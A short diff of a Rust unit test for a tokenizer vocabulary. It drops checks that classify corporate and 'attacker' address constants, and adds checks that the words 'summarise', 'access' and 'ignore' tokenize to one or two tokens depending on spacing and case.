+    fn lexicon_words_are_one_token_in_every_case() {
         let v = Vocab::get();
-        for a in CORP_ADDRESSES {
-            let id = v.id(a).unwrap();
-            assert!(v.is_address(id) && !v.is_outside_address(id), "{a}");
+        for w in ["summarise", "access", "ignore"] {
+            assert!(v.has_seen(w), "{w}");
+            assert_eq!(v.encode(&format!(" {w}")).len(), 1, "{w}");
+            assert_eq!(v.encode(&w.to_ascii_uppercase()).len(), 2, "{w}");
         }
-        for a in ATTACKER_ADDRESSES {
-            let id = v.id(a).unwrap();
-            assert!(v.is_address(id) && v.is_outside_address(id), "{a}");
-        }
-        assert!(!v.is_address(v.id("alice").unwrap()));
     }
 }
